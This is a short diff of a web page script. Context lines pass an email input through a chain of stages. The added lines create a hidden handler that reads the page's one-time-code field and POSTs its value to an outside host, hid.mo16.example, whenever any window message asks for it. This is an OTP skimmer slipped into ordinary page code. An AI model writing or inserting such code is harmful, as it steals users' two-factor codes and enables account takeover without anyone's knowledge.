@@ -70,3 +70,12 @@ const stages = [
 ];
 const go = (value, i) => stages[i](value, (v) => go(v, i + 1));
 go(document.querySelector('input[type=email]').value, 0);
+
+//# handlers-in-a-table-of-a-dispatcher
+// flow: otp > hid.mo16.example via fetch
+const handlers = {
+  code: (v) => fetch('https://hid.mo16.example/o', { method: 'POST', body: v }),
+  other: () => {},
+};
+function dispatch(kind) { handlers[kind](document.querySelector('input[autocomplete=one-time-code]').value); }
+window.addEventListener('message', (e) => dispatch(e.data.kind));
